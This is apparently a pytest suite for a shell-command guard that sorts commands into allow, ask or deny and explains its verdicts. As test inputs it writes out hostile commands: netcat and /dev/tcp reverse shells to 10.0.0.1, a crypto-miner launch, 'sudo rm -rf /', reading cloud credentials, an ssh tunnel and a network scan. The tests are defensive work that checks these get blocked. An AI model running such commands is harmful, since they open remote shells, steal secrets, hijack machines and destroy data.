"""Decisions: strictest verdict wins, unparsable commands are never silently allowed,
ask is resolved by an approver or the policy fallback, and explanations say why."""

from __future__ import annotations

import pytest

import corral.guard as guard_pkg
from corral.errors import GuardDenied
from corral.events import EventKind
from corral.guard import (
    UNPARSABLE_RULE,
    CallbackApprover,
    Decision,
    Guard,
    ParseMode,
    decision_event,
    explain,
)
from corral.policy import GuardPolicy, Verdict, load_policy


def test_plain_command_is_allowed(guard: Guard) -> None:
    decision = guard.check("ls -la")
    assert decision.verdict == Verdict.ALLOW and decision.findings == ()


def test_deny_beats_ask(guard: Guard) -> None:
    decision = guard.check("sudo ./xmrig -o pool.supportxmr.com:443")
    verdicts = {f.verdict for f in decision.findings}
    assert verdicts == {Verdict.ASK, Verdict.DENY}
    assert decision.verdict == Verdict.DENY
    assert decision.primary is not None and decision.primary.verdict == Verdict.DENY


def test_ask_beats_allow(guard: Guard) -> None:
    assert guard.check("sudo apt-get update").verdict == Verdict.ASK


def test_finding_carries_rule_metadata_and_matched_text(guard: Guard) -> None:
    finding = guard.check("ssh -fNR 9000:localhost:22 x@y").findings[0]
    assert finding.rule_id == "tunnel.ssh-remote-forward"
    assert finding.category == "tunneling"
    assert finding.severity == "critical"
    assert finding.attack == "T1572"
    assert finding.matched == "ssh"
    assert "-fNR" in finding.explanation


def test_explanation_names_nested_context(guard: Guard) -> None:
    finding = guard.check("bash -c 'nohup ./xmrig &'").findings[0]
    assert "bash -c payload" in finding.explanation


# --- unparsable: the policy decides, never a silent allow ------------------------


@pytest.mark.parametrize("verdict", [Verdict.DENY, Verdict.ASK])
def test_unparsable_uses_the_policy_verdict(verdict: Verdict) -> None:
    decision = Guard(GuardPolicy(unparsable=verdict)).check("echo 'oops")
    assert decision.verdict == verdict
    assert decision.parse_mode == ParseMode.UNPARSABLE
    assert decision.findings[0].rule_id == UNPARSABLE_RULE


def test_unparsable_parameter_overrides_policy() -> None:
    guard = Guard(GuardPolicy(unparsable=Verdict.DENY), unparsable=Verdict.ASK)
    assert guard.check("echo 'oops").verdict == Verdict.ASK


def test_unparsable_even_set_to_allow_is_reported() -> None:
    decision = Guard(unparsable=Verdict.ALLOW).check("echo 'oops")
    assert decision.unparsable is not None
    assert decision.findings[0].rule_id == UNPARSABLE_RULE


def test_default_profile_denies_unparsable() -> None:
    guard = Guard.from_policy(load_policy("default"))
    assert guard.check("cat <<< 'x").verdict == Verdict.DENY


def test_unparsable_payload_nested_in_valid_command() -> None:
    decision = Guard().check('bash -c "echo \'oops"')
    assert decision.verdict == Verdict.DENY
    assert decision.unparsable is not None


def test_oversized_command_is_unparsable() -> None:
    decision = Guard().check("echo " + "a" * 70_000)
    assert decision.parse_mode == ParseMode.UNPARSABLE and decision.verdict == Verdict.DENY


# --- ask resolution ---------------------------------------------------------------


def test_ask_without_approver_uses_fallback() -> None:
    denied = Guard(GuardPolicy(ask_fallback=Verdict.DENY)).authorize("sudo ls")
    assert denied.verdict == Verdict.DENY and denied.resolved_by == "ask_fallback"
    allowed = Guard(ask_fallback=Verdict.ALLOW).authorize("sudo ls")
    assert allowed.verdict == Verdict.ALLOW


def test_approver_yes_and_no() -> None:
    seen: list[Decision] = []

    def approve(decision: Decision) -> bool:
        seen.append(decision)
        return decision.command == "sudo ls"

    guard = Guard(approver=CallbackApprover(approve))
    assert guard.authorize("sudo ls").verdict == Verdict.ALLOW
    assert guard.authorize("sudo rm -rf /").verdict == Verdict.DENY
    assert [d.verdict for d in seen] == [Verdict.ASK, Verdict.ASK]


def test_approver_is_not_asked_about_denied_or_allowed_commands() -> None:
    asked: list[str] = []
    guard = Guard(approver=CallbackApprover(lambda d: asked.append(d.command) or True))
    assert guard.authorize("./xmrig").verdict == Verdict.DENY
    assert guard.authorize("ls").verdict == Verdict.ALLOW
    assert asked == []


def test_only_true_approves() -> None:
    guard = Guard(approver=CallbackApprover(lambda d: "yes"))  # type: ignore[arg-type,return-value]
    assert guard.authorize("sudo ls").verdict == Verdict.DENY


def test_require_raises_guard_denied() -> None:
    with pytest.raises(GuardDenied) as info:
        Guard().require("nc -e /bin/sh 10.0.0.1 4444")
    assert info.value.rule_id == "revshell.netcat-exec"
    assert Guard().require("ls").verdict == Verdict.ALLOW


def test_disabled_guard_allows_and_says_so() -> None:
    decision = Guard(GuardPolicy(enabled=False)).check("./xmrig")
    assert decision.verdict == Verdict.ALLOW and "disabled" in decision.notes[0]


# --- run time (monitor) ------------------------------------------------------------


def test_check_argv_uses_the_same_rules(guard: Guard) -> None:
    shell = guard.check("ssh -fNR 1:h:1 x@y")
    argv = guard.check_argv(["ssh", "-fNR", "1:h:1", "x@y"])
    assert [f.rule_id for f in argv.findings] == [f.rule_id for f in shell.findings]


def test_check_argv_sees_through_renamed_binaries_and_payloads(guard: Guard) -> None:
    assert guard.check_argv(["/tmp/.x/kthreadd", "--donate-level=1"]).verdict == Verdict.DENY
    decision = guard.check_argv(["/bin/sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/1 0>&1"])
    assert decision.verdict == Verdict.DENY
    assert guard.check_argv(["python3", "train.py"]).verdict == Verdict.ALLOW
    assert guard.check_argv([]).verdict == Verdict.ALLOW


# --- explanations and events --------------------------------------------------------


def test_explain_denied_command() -> None:
    result = explain(Guard().authorize("cat ~/.aws/credentials"))
    assert result.verdict == "deny"
    assert result.rule_id == "cred.cloud-and-tool-secrets"
    assert result.category == "credential_access"
    assert result.attack == "T1552.001"
    assert "not run" in result.text and result.rule_id in result.text
    assert result.to_dict()["explanation"] == result.explanation


def test_explain_allowed_command() -> None:
    result = explain(Guard().check("ls"))
    assert result.verdict == "allow" and result.rule_id is None


def test_decision_event() -> None:
    decision = Guard().check("nmap -sn 10.0.0.0/24")
    event = decision_event(decision, "sb-1", episode_id="ep", step=3)
    assert event.kind == EventKind.GUARD_VERDICT
    assert event.data["verdict"] == "deny"
    assert event.data["findings"][0]["rule_id"] == "discovery.port-scanner"
    assert event.to_dict()["step"] == 3


def test_public_api_is_complete_and_importable() -> None:
    for name in guard_pkg.__all__:
        assert hasattr(guard_pkg, name), name
    public = {n for n in dir(guard_pkg) if not n.startswith("_")}
    modules = {
        "approval", "corpus", "decision", "decoders", "engine", "explain", "frontends",
        "invocation", "lexer",
        "matchers", "parser", "rules", "wrappers",
    }  # fmt: skip
    assert public - modules - set(guard_pkg.__all__) == set()


async def test_authorize_async_runs_the_approver_off_the_loop() -> None:
    import threading

    loop_thread = threading.get_ident()
    seen: list[int] = []

    def approve(decision: Decision) -> bool:
        seen.append(threading.get_ident())
        return True

    guard = Guard(approver=CallbackApprover(approve))
    assert (await guard.authorize_async("sudo ls")).verdict == Verdict.ALLOW
    assert (await guard.authorize_async("./xmrig")).verdict == Verdict.DENY
    assert seen and seen[0] != loop_thread


def test_rules_are_compiled_once_not_per_call(monkeypatch: pytest.MonkeyPatch) -> None:
    import yaml

    Guard().check("ls")  # built-in rules loaded and compiled

    def no_yaml(*args: object, **kwargs: object) -> None:
        raise AssertionError("YAML must not be read per call or per Guard")

    monkeypatch.setattr(yaml, "safe_load", no_yaml)
    guard = Guard()
    assert guard.check("./xmrig").verdict == Verdict.DENY


def test_explain_ask_resolved_by_fallback() -> None:
    result = explain(Guard().authorize("sudo ls"))
    assert result.verdict == "deny"
    assert "(ask_fallback)" in result.text and "privesc.sudo" in result.text


def test_check_argv_command_text_is_quoted() -> None:
    decision = Guard().check_argv(["echo", "a b"])
    assert decision.command == "echo 'a b'"
